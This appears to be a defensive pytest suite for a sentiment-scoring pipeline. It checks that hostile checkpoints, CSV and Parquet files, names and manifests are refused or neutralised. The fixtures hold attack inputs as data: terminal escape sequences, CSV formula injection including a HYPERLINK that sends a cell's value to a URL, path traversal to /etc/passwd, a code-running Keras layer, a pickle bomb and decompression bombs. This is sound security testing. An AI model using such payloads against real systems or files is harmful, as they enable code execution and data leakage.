"""What strangers may send - checkpoints, shards, texts, names - is at worst refused."""

import base64
import gzip
import hashlib
import json
import os
import pty
import subprocess
import sys
import zipfile
from contextlib import suppress
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.console.terminal import printable
from pipelines.errors import Failure
from pipelines.scoring import reader as part_reader
from pipelines.scoring.executor import LocalExecutor
from pipelines.scoring.mending import mend
from pipelines.scoring.output import Output
from pipelines.scoring.part_data import PartTask
from pipelines.scoring.part_file import METADATA
from pipelines.scoring.plan import Part, Piece, Plan
from pipelines.scoring.planner import make_plan
from pipelines.scoring.reader import PartReader
from pipelines.scoring.sealed_parquet import parquet_content
from pipelines.sources.listing import find_shards
from pipelines.sources.options import ReadOptions
from pipelines.sources.rows import Span
from pipelines.sources.shard import Shard
from pipelines.training.config import TrainConfig
from sentiment import checkpoint
from sentiment.checkpoint import Checkpoint
from sentiment.errors import InputError
from sentiment.network import weight_shapes
from sentiment.text.tokenizer import SPECIALS, Tokenizer
from testing.generated import save_checkpoint, vouch
from testing.programs import run

STEERING = "\x1b]0;owned\x07\x1b[31m\x9b2J\x08\r\u202egpj.exe\u2066"
MEBIBYTE = 2**20

# The peak of a process counts what its parent held when it was forked: a small one stands between.
PEAK = """
import resource, subprocess, sys
code = subprocess.run(sys.argv[1:]).returncode
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss >> 10
print(f"peak {peak}")
sys.exit(code)
"""

LOAD = "import sys; from sentiment.checkpoint import load; load(sys.argv[1])"


@pytest.fixture(scope="module")
def model(tmp_path_factory) -> Path:
    directory = tmp_path_factory.mktemp("model")
    save_checkpoint(directory)
    return directory


def measured(*arguments: object) -> tuple[subprocess.CompletedProcess[str], int]:
    """Python with these arguments, at most two minutes, and its peak of memory in MiB."""
    command = [sys.executable, "-c", PEAK, sys.executable, *map(str, arguments)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    said, _, peak = done.stdout.rstrip().rpartition("peak ")
    done.stdout = said
    return done, int(peak)


def score(
    model: Path, shard: Path, output: Path, *more: str
) -> tuple[subprocess.CompletedProcess[str], int]:
    flags = ("--checkpoints_dir", model, "--input", shard, "--output", output)
    return measured("-m", "pipelines.score", *flags, "--max_rejected", "100%", *more)


def assert_shown_safely(*outputs: str) -> None:
    for output in outputs:
        for line in output.split("\n"):
            assert printable(line) == line


# What reaches a terminal.


@given(st.text())
def test_what_is_printable_steers_nothing_and_keeps_the_rest(text):
    shown = printable(text)
    assert printable(shown) == shown
    assert not [c for c in shown if ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u2028"]
    shown.encode()
    if text.isprintable():
        assert shown == text


def test_emoji_and_other_scripts_are_shown_as_they_are():
    for text in ("👩🏽\u200d🚀", "שלום\u200f", "a\u200eb\u061c", "cafe\u0301", "日本"):
        assert printable(text) == text


@pytest.mark.process
def test_nothing_that_score_prints_steers_a_terminal(model, tmp_path):
    shards = tmp_path / "shards"
    shards.mkdir()
    cells = [
        f'"{STEERING}"',
        '"=HYPERLINK(""http://x/?""&A1,""click"")"',
        "+cmd|' /C calc'!A0",
        "<script>alert(1)</script>",
    ]
    name = f"id{STEERING}"
    rows = "".join(f"{cell},lovely\n" for cell in cells)
    (shards / f"a{STEERING}\n.csv").write_bytes(f'"{name}",text\n{rows}'.encode())
    (shards / f"b{STEERING}\n.csv").write_bytes(b"no such column\n1\n")
    done, _ = score(model, shards, tmp_path / "scored", "--show_samples")
    assert done.returncode == 0, done.stderr
    assert "HYPERLINK" in done.stdout
    assert_shown_safely(done.stdout, done.stderr)
    assert "owned" in done.stdout
    # What is kept is kept as it is: inert in Parquet, and for whoever exports it to escape.
    kept = pq.read_table(tmp_path / "scored" / "part-000000.parquet")[name].to_pylist()
    assert kept == [STEERING, '=HYPERLINK("http://x/?"&A1,"click")', *cells[2:]]

    bad = shards / f"b{STEERING}\n.csv"
    done, _ = score(model, bad, tmp_path / "refused")
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1
    assert "owned" in done.stderr
    assert_shown_safely(done.stderr)


@pytest.mark.process
def test_predict_steers_no_terminal(model):
    ours, terminal = pty.openpty()
    command = [sys.executable, "-m", "pipelines.predict", "--checkpoints_dir", str(model)]
    try:
        done = subprocess.run(
            [*command, "--", f"lovely {STEERING}"], stdout=terminal, timeout=60, check=False
        )
        shown = os.read(ours, 10_000).decode()
    finally:
        os.close(terminal)
        os.close(ours)
    assert done.returncode == 0
    assert "lovely" in shown
    assert_shown_safely(shown.replace("\r\n", "\n").replace("\t", " ", 2))


# Checkpoints.


def header(text: str, data: bytes = b"") -> bytes:
    return len(text).to_bytes(8, "little") + text.encode() + data


OVERLAPPING = json.dumps(
    {
        name: {"dtype": "F32", "shape": list(shape), "data_offsets": [0, 4 * int(np.prod(shape))]}
        for name, shape in weight_shapes(len(SPECIALS), 1, 1).items()
    }
)
HUGE = '{"embedding": {"dtype": "F32", "shape": [1099511627776], "data_offsets": [0, 4]}}'


@pytest.mark.process
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("weights.safetensors", lambda: header(" " * 99 * MEBIBYTE + "{}")),
        ("weights.safetensors", lambda: header(HUGE, b"0000")),
        ("weights.safetensors", lambda: header(OVERLAPPING, b"0" * 16)),
        ("training.json", lambda: b'{"a": "%s"}' % (b"a" * 17 * MEBIBYTE)),
        ("training.json", lambda: b"[" + b"[]," * 5 * MEBIBYTE + b"[]]"),
        ("training.json", lambda: b'{"a":' * 100_000),
        ("vocabulary.txt", lambda: "\n".join(map(str, range(10**7))).encode()),
        ("vocabulary.txt", lambda: "\n".join(map(str, range(10**6))).encode()),
    ],
    ids=[
        "long header",
        "huge claim",
        "overlap",
        "long",
        "wide",
        "deep",
        "10^7 lines",
        "10^6 lines",
    ],
)
def test_a_checkpoint_of_absurd_files_is_refused_in_little_memory(tmp_path, name, content):
    save_checkpoint(tmp_path)
    (tmp_path / name).write_bytes(content())
    vouch(tmp_path)
    done, peak = measured("-c", LOAD, tmp_path)
    assert f"InputError: checkpoint {tmp_path}" in done.stderr.splitlines()[-1]
    assert name in done.stderr.splitlines()[-1]
    assert peak < 800


def test_a_small_checkpoint_of_a_huge_table_is_refused():
    words = tuple(f"{i}" for i in range(600_000))
    shapes = weight_shapes(len(SPECIALS) + len(words), 1, 2048)
    weights = {name: np.zeros(shape, np.float32) for name, shape in shapes.items()}
    said = r"600,002 words and bigrams and 2,048 units .* more than 16 GiB"
    with pytest.raises(InputError, match=said):
        Checkpoint(weights, (*SPECIALS, *words))


def test_a_manifest_leads_nowhere_else(tmp_path):
    (tmp_path / "secret").write_text("secret")
    save_checkpoint(tmp_path / "model")
    for name in ("../secret", str(tmp_path / "secret"), "../../etc/passwd"):
        vouch(tmp_path / "model", **{name: hashlib.sha256(b"secret").hexdigest()})
        # What is not among its five files is neither read nor missed.
        assert checkpoint.load(str(tmp_path / "model")).vocabulary
    assert (tmp_path / "secret").read_text() == "secret"


@pytest.fixture
def lambda_layer(tmp_path) -> bytes:
    """A `.keras` archive whose layer would run code."""
    path = tmp_path / "model.keras"
    config = {"class_name": "Lambda", "config": {"function": "import os; os.mkdir('exploded')"}}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", "{}")
    return path.read_bytes()


@pytest.mark.process
def test_no_layer_of_keras_is_loaded(tmp_path, lambda_layer):
    save_checkpoint(tmp_path / "model")
    (tmp_path / "model" / "model.keras").write_bytes(lambda_layer)
    beside = f"{LOAD}; assert not {{'keras', 'tensorflow', 'pickle5'}} & set(sys.modules)"
    assert measured("-c", beside, tmp_path / "model")[0].returncode == 0
    (tmp_path / "model" / "weights.safetensors").write_bytes(lambda_layer)
    vouch(tmp_path / "model")
    with pytest.raises(InputError, match=r"weights\.safetensors"):
        checkpoint.load(str(tmp_path / "model"))
    assert not list(tmp_path.rglob("exploded"))


@pytest.mark.process
@pytest.mark.parametrize("name", ["checkpoint.json", "weights.safetensors"])
def test_a_pipe_in_a_checkpoint_is_not_waited_for(tmp_path, name):
    save_checkpoint(tmp_path)
    (tmp_path / name).unlink()
    os.mkfifo(tmp_path / name)
    done, _ = measured("-c", LOAD, tmp_path)
    assert f"{name} cannot be read" in done.stderr.splitlines()[-1]


@pytest.mark.parametrize(
    "name", ["../x", "/x", "..", ".x", "_runs", "a/b", "a\\b", "a\nb", "a\0b", "", "~x", "s3://x"]
)
def test_a_run_is_named_below_its_root_alone(name):
    with pytest.raises(InputError, match="run_name"):
        TrainConfig(run_name=name)


# CSV.


def compressed(path: Path, head: bytes, piece: bytes, times: int) -> Path:
    """A file of some members, as `bgzip` writes: so the same is compressed once."""
    path.write_bytes(gzip.compress(head) + times * gzip.compress(piece))
    return path


@pytest.mark.process
@pytest.mark.parametrize(
    ("piece", "code", "said"),
    [
        (b"a" * MEBIBYTE, 2, "a row longer than 64 MiB"),
        (b"\n" * MEBIBYTE, 0, "1 row scored"),
    ],
    ids=["a row", "blank lines"],
)
def test_a_csv_that_unpacks_a_thousandfold_is_read_in_bounded_memory(
    model, tmp_path, piece, code, said
):
    shard = compressed(tmp_path / "bomb.csv.gz", b"id,text\n1,", piece, 80)
    assert shard.stat().st_size < MEBIBYTE
    done, peak = score(model, shard, tmp_path / "scored")
    assert done.returncode == code, done.stderr
    assert said in done.stdout + done.stderr
    assert peak < 800


BOMBS = {
    "malformed rows of a MiB": (b"id,text\n", b"a" * MEBIBYTE + b"\n", 700, 600),
    "malformed rows of a byte": (b"id,text\n", b"a\n" * (MEBIBYTE // 2), 2, 550),
    "malformed rows of 60 MiB": (b"id,text\n", b"a" * (60 * MEBIBYTE) + b"\n", 5, 800),
    "texts of 60 MiB": (b"id,text\n", b"1," + b"a b " * (15 * MEBIBYTE) + b"\n", 3, 1900),
    "texts that are not UTF-8": (b"id,text\n", b"1," + b"\xff" * MEBIBYTE + b"\n", 300, 800),
    "kept columns": (b"id,text\n", b"a" * MEBIBYTE + b",hi\n", 1100, 1900),
}


@pytest.mark.slow(9)
@pytest.mark.process
@pytest.mark.parametrize("bomb", BOMBS)
def test_a_csv_bomb_is_scored_in_bounded_memory(model, tmp_path, bomb):
    """Rows of which there are many, or each is long: hundreds of megabytes, in a few of gzip."""
    head, piece, times, most = BOMBS[bomb]
    shard = compressed(tmp_path / "bomb.csv.gz", head, piece, times)
    done, peak = score(model, shard, tmp_path / "scored")
    assert done.returncode == 0, done.stderr
    assert peak < most


@pytest.mark.slow(13)
@pytest.mark.process
@pytest.mark.parametrize("kind", ["kept", "text"])
def test_a_parquet_bomb_is_scored_in_bounded_memory(model, tmp_path, kind):
    """Columns whose values are long and alike: a few kilobytes that say 1.5 GiB."""
    columns = {"text": pa.array(["hi"] * 100_000), "kept": pa.array(["hi"] * 100_000)}
    values = pa.DictionaryArray.from_arrays(
        pa.array(np.zeros(100_000, np.int32)), pa.array(["a b " * 4_000])
    )
    table = pa.table({**columns, kind: values})
    pq.write_table(table, tmp_path / "a.parquet", compression="zstd", row_group_size=10_000)
    assert (tmp_path / "a.parquet").stat().st_size < MEBIBYTE
    done, peak = score(model, tmp_path / "a.parquet", tmp_path / "scored")
    assert done.returncode == 0, done.stderr
    assert peak < 2048


@pytest.mark.process
def test_millions_of_bad_rows_are_held_a_part_at_a_time(tmp_path):
    path = compressed(tmp_path / "bad.csv.gz", b"id,text\n", b"x\n" * (MEBIBYTE // 2), 16)
    code = """
import sys
from pipelines.sources.options import ReadOptions
from pipelines.sources.rows import Span
from pipelines.sources.shard import Shard
found = Shard(sys.argv[1], 0, 0).rows(["text"], ReadOptions(), Span(4_000_000, 100_000))
print(sum(len(rows.bad) for rows in found))
"""
    done, peak = measured("-c", code, path)
    assert done.stdout == "100000\n", done.stderr
    assert peak < 600


@pytest.mark.parametrize("kind", ["csv", "parquet"])
def test_a_shard_of_very_many_columns_is_refused(tmp_path, kind):
    names = ["text", *(f"c{i}" for i in range(20_000))]
    path = tmp_path / f"wide.{kind}"
    if kind == "csv":
        path.write_text(",".join(names * 20) + "\n")
    else:
        pq.write_table(pa.table(dict.fromkeys(names, pa.array([1]))), path)
    with pytest.raises(InputError, match=r"columns; at most 10,000 are read"):
        Shard(str(path), 0, 0).schema(ReadOptions())


# Parquet.


def shard_of(path: Path) -> Shard:
    (shard,) = find_shards([str(path)], "--input")
    return shard


def read_part(path: Path, rows: int) -> tuple[list[dict], int]:
    """What is rejected of a part that holds so many rows of a file, and how many they are."""
    reader = PartReader(Tokenizer().encoder(SPECIALS), "text", pa.schema([]), ReadOptions(), 512)
    part = Part("part-000000", (Piece(0, Span(0, rows)),))
    read = reader(PartTask.of(part, (shard_of(path),)))
    return read.rejected.to_pylist(), read.rejected_rows


@pytest.mark.process
def test_the_limit_on_memory_is_not_reached_by_what_an_allocator_reserves(tmp_path):
    """In a new process, whose allocator holds nothing yet."""
    table = pa.table({"text": [f"text {i}" for i in range(200_000)]})
    pq.write_table(table, tmp_path / "a.parquet")
    code = """
import sys
from concurrent.futures import ThreadPoolExecutor
from pipelines.sources.options import ReadOptions
from pipelines.sources.shard import Shard
shard = Shard(sys.argv[1], 0, 0)
def read(_): return sum(len(rows.numbers) for rows in shard.rows(None, ReadOptions()))
with ThreadPoolExecutor(24) as pool:
    print({read(None), *pool.map(read, range(48)), shard.count(ReadOptions()).rows})
"""
    done, _ = measured("-c", code, tmp_path / "a.parquet")
    assert (done.stdout, done.stderr) == ("{200000}\n", "")


@pytest.mark.process
def test_a_dictionary_of_one_long_value_is_rejected(model, tmp_path):
    """A kilobyte that says 100,000 times the same megabyte."""
    indices = pa.array(np.zeros(100_000, np.int32))
    texts = pa.DictionaryArray.from_arrays(indices, pa.array(["a" * MEBIBYTE]))
    pq.write_table(pa.table({"text": texts}), tmp_path / "a.parquet", compression="zstd")
    assert (tmp_path / "a.parquet").stat().st_size < 2000
    done, peak = score(model, tmp_path / "a.parquet", tmp_path / "scored")
    assert done.returncode == 0, done.stderr
    assert "100,000 rows and 0 shards could not be scored" in done.stdout
    (row,) = pq.read_table(tmp_path / "scored" / "_rejected" / "part-000000.parquet").to_pylist()
    assert "takes more than 960 MiB of memory to read" in row["reason"]
    assert peak < 1800


def test_a_value_longer_than_any_text_is_rejected(tmp_path):
    text = pa.array(["a" * (65 * MEBIBYTE)])
    pq.write_table(pa.table({"text": text}), tmp_path / "a.parquet", compression="zstd")
    ((row,), lost) = read_part(tmp_path / "a.parquet", 1)
    assert lost == 1
    assert "has a value of 68,157,440 bytes; at most 64 MiB are read" in row["reason"]


def test_what_is_kept_of_a_part_is_bounded(tmp_path, monkeypatch):
    """Many small shards, none of which is too large, and all of them are."""
    monkeypatch.setattr(part_reader, "MAX_KEPT_BYTES", 5 * MEBIBYTE)
    indices = pa.array(np.zeros(10, np.int32))
    kept = pa.DictionaryArray.from_arrays(indices, pa.array(["a" * (MEBIBYTE // 5)]))
    for number in range(4):
        pq.write_table(pa.table({"text": ["hi"] * 10, "k": kept}), tmp_path / f"{number}.parquet")
    shards = tuple(find_shards([str(tmp_path)], "--input"))
    schema = pa.schema([("k", pa.string())])
    reader = PartReader(Tokenizer().encoder(SPECIALS), "text", schema, ReadOptions(), 512)
    pieces = tuple(Piece(number, Span(0, 10)) for number in range(4))
    read = reader(PartTask.of(Part("part-000000", pieces), shards))
    # The first two are held, and the others are not, whatever comes between.
    assert read.rejected_rows == 20
    assert len(read.kept) == 20
    for row in read.rejected.to_pylist():
        assert "use a smaller --part_rows" in row["reason"]


def zigzag(number: int) -> bytes:
    """A number as Thrift writes it into a footer."""
    number, out = 2 * number, bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


def claiming(path: Path, rows: int) -> Path:
    """A file of 10,000 rows whose footer claims others."""
    pq.write_table(pa.table({"text": ["hi"] * 10_000}), path)
    content = path.read_bytes()
    size = int.from_bytes(content[-8:-4], "little")
    footer = content[-8 - size : -8].replace(zigzag(10_000), zigzag(rows))
    assert footer != content[-8 - size : -8]
    path.write_bytes(content[: -8 - size] + footer + len(footer).to_bytes(4, "little") + b"PAR1")
    return path


def test_a_footer_that_claims_too_few_or_too_many_rows_costs_its_shard_alone(tmp_path):
    path = claiming(tmp_path / "a.parquet", 20_000)
    assert shard_of(path).count(ReadOptions()).rows == 20_000
    ((row,), lost) = read_part(path, 20_000)
    assert (row["row"], lost) == (None, 20_000)


@pytest.mark.parametrize("rows", [10**9, 2**40, 2**62])
def test_a_footer_that_claims_more_rows_than_can_be_is_refused(tmp_path, rows):
    path = claiming(tmp_path / "a.parquet", rows)
    with pytest.raises(InputError, match=r"rows in .* bytes: its footer is damaged"):
        shard_of(path).count(ReadOptions())


@pytest.mark.parametrize("place", range(0, 400, 7))
def test_a_footer_with_absurd_numbers_is_read_or_refused(tmp_path, place):
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table({"text": ["hi"] * 1000}), path)
    content = path.read_bytes()
    at = len(content) - 8 - int.from_bytes(content[-8:-4], "little") + place
    # The largest number of 64 bits: of offsets, sizes, lengths of lists, ...
    content = content[:at] + b"\xff" * 9 + b"\x01" + content[at + 10 :]
    path.write_bytes(content)
    shard = shard_of(path)
    with suppress(InputError):
        for rows in shard.rows(
            ["text"], ReadOptions(), Span(0, min(shard.count(ReadOptions()).rows, 1000))
        ):
            assert len(rows.table) <= 1000


def test_types_nested_very_deeply_are_refused(tmp_path):
    kind = pa.int8()
    for _ in range(300):
        kind = pa.struct([("a", kind)])
    table = pa.table({"text": ["hi"], "deep": pa.nulls(1, kind)})
    pq.write_table(table, tmp_path / "a.parquet")
    with pytest.raises(InputError, match="nested"):
        shard_of(tmp_path / "a.parquet").count(ReadOptions())


@pytest.mark.process
def test_pickles_that_ray_data_would_load_stay_bytes(tmp_path):
    """A type that Ray Data registers with Arrow holds pickles: to show a value runs its code."""
    code = f"""
import os, pickle, sys
import pyarrow as pa, pyarrow.parquet as pq
from ray.data._internal.object_extensions.arrow import ArrowPythonObjectType

class Bomb:
    def __reduce__(self):
        return os.mkdir, ("exploded",)

kind = ArrowPythonObjectType()
bombs = pa.ExtensionArray.from_storage(kind, pa.array([pickle.dumps(Bomb())], kind.storage_type))
nested = pa.StructArray.from_arrays([bombs], ["bomb"])
lists = pa.ListArray.from_arrays([0, 1], bombs)
pq.write_table(pa.table({{"text": ["hi"], "a": bombs, "b": nested, "c": lists}}), "a.parquet")
assert "arrow_pickled_object" in str(pq.read_schema("a.parquet"))

sys.path.insert(0, {str(Path(__file__).parents[1])!r})
from pipelines.sources.options import ReadOptions
from pipelines.sources.shard import Shard
shard = Shard("a.parquet", 0, 0)
assert "arrow_pickled_object" not in str(shard.schema(ReadOptions()))
for rows in shard.rows(None, ReadOptions()):
    assert rows.table.schema == shard.schema(ReadOptions())
    print(rows.table.to_pylist())
"""
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "exploded" in done.stdout
    assert os.listdir(tmp_path) == ["a.parquet"]


# Directories.


def test_links_that_lead_in_circles_are_followed_once(tmp_path):
    (tmp_path / "a.csv").write_text("text\nhi\n")
    (tmp_path / "below").mkdir()
    (tmp_path / "below" / "b.csv").write_text("text\nhi\n")
    for name in ("one", "two", "three"):
        (tmp_path / name).symlink_to(tmp_path)
        (tmp_path / "below" / name).symlink_to(tmp_path / "below")
    os.mkfifo(tmp_path / "pipe.csv")
    found = find_shards([str(tmp_path)], "--input")
    assert [shard.path for shard in found] == [
        str(tmp_path / "a.csv"),
        str(tmp_path / "below" / "b.csv"),
    ]


def test_a_link_changes_no_shard_s_path(tmp_path):
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "a.csv").write_text("text\nhi\n")
    (tmp_path / ".hidden").mkdir()
    (tmp_path / ".hidden" / "b.csv").write_text("text\nhi\n")
    (tmp_path / "linked").symlink_to(tmp_path / ".hidden")
    before = find_shards([str(tmp_path)], "--input")
    for name in ("_latest", ".latest", "aaa"):
        (tmp_path / name).symlink_to(tmp_path / "data")
    assert find_shards([str(tmp_path)], "--input") == before
    # A shard has one path, whatever links lead to it.
    found = [tmp_path / ".hidden" / "b.csv", tmp_path / "data" / "a.csv"]
    assert [shard.path for shard in before] == [str(path) for path in found]


# What is in an output directory.


@pytest.fixture
def planned(model, tmp_path) -> Path:
    """An output with a plan of one part, not scored yet."""
    (tmp_path / "a.csv").write_text("text\nhi\n")
    settings = {
        "model_hash": checkpoint.load(str(model)).model_hash,
        "text_column": "text",
        "keep_columns": None,
        "encoding": "utf-8",
        "max_tokens": 512,
        "part_rows": 100_000,
    }
    shard = shard_of(tmp_path / "a.csv")
    plan = make_plan([shard], [shard.count(ReadOptions())], settings, first_part=0)
    Output(str(tmp_path / "scored")).add(plan)
    return tmp_path


def edit(directory: Path, column: str, value: object, metadata: str = "") -> None:
    """Write something else into the plan, and the checksum that goes with it.

    The column then has `value` in each row; or the field of the file's metadata is `value`.
    """
    path = directory / "_manifest" / "plan-00000.parquet"
    file = pq.ParquetFile(path)
    own = (b"format", b"settings", b"schema")
    fields = {key: file.metadata.metadata[key].decode() for key in own}
    table = file.read()
    if column:
        index = table.column_names.index(column)
        kind = table.schema.field(column).type if value is None else None
        table = table.set_column(index, column, pa.array([value] * len(table), kind))
    fields |= {metadata.encode(): value} if metadata else {}
    path.write_bytes(parquet_content(table, fields))


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("part", -1),
        ("part", "../../outside"),
        ("part", "/tmp/outside"),
        ("part", "s3://bucket/outside"),
        ("part", "0\n"),
        ("shard", 1),
        ("shard", -1),
        ("shard", None),
        ("path", None),
        ("path", 1),
        ("rows", -1),
        ("rows", -(2**63)),
        ("rows", None),
        ("rows", "x"),
        ("rows_before", -1),
        ("mark_row", -1),
        ("mark_byte", -1),
        ("bytes", -1),
    ],
)
def test_a_plan_that_somebody_edited_leads_nowhere_else(planned, column, value):
    path = planned / "scored" / "_manifest" / "plan-00000.parquet"
    edit(planned / "scored", "rows", 1)
    assert Plan.from_bytes(path.read_bytes(), str(path)).parts
    edit(planned / "scored", column, value)
    with pytest.raises(Failure, match=r"plan-00000\.parquet is damaged"):
        Plan.from_bytes(path.read_bytes(), str(path))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("schema", base64.b64encode(b"\xff" * 100).decode()),
        ("schema", "x"),
        ("settings", "1"),
        ("settings", "{"),
        ("format", "two"),
    ],
)
def test_a_plan_whose_metadata_somebody_edited_is_refused(planned, field, value):
    path = planned / "scored" / "_manifest" / "plan-00000.parquet"
    edit(planned / "scored", "", value, field)
    with pytest.raises(Failure, match=r"plan-00000\.parquet is damaged"):
        Plan.from_bytes(path.read_bytes(), str(path))


@pytest.mark.process
def test_the_programs_refuse_such_a_plan_and_write_nothing(model, planned):
    edit(planned / "scored", "part", "../outside")
    (planned / "outside.parquet").write_text("mine")
    before = sorted(planned.rglob("*"))
    flags = ("--checkpoints_dir", model, "--input", planned / "a.csv")
    flags += ("--output", planned / "scored")
    done = run("score", *flags, code=1)
    assert "is damaged" in done.stderr
    assert sorted(planned.rglob("*")) == before
    run("score", *flags, "--overwrite")
    assert (planned / "outside.parquet").read_text() == "mine"
    assert len(pq.read_table(planned / "scored" / "part-000000.parquet")) == 1


@pytest.mark.parametrize(
    "said",
    [
        b"[" * 100_000,
        b'{"counts": {"rows": "1"}, "model_hash": 1}',
        b'{"counts": {"rows": Infinity}}',
        b'{"counts": {"rows": null}}',
        b'{"counts": 1}',
        b"[]",
        b'{"counts": {"rows": 1%s}}' % (b"0" * 5000),
        b" " * 20 * MEBIBYTE,
    ],
)
def test_a_footer_of_a_part_that_somebody_edited_is_refused(planned, said):
    table = pa.table({"a": [1]}).replace_schema_metadata({METADATA: said})
    pq.write_table(table, planned / "scored" / "part-000000.parquet")
    output = Output(str(planned / "scored"))
    reason = mend(output, LocalExecutor())["part-000000"]
    assert reason.startswith("is not the part that was written")
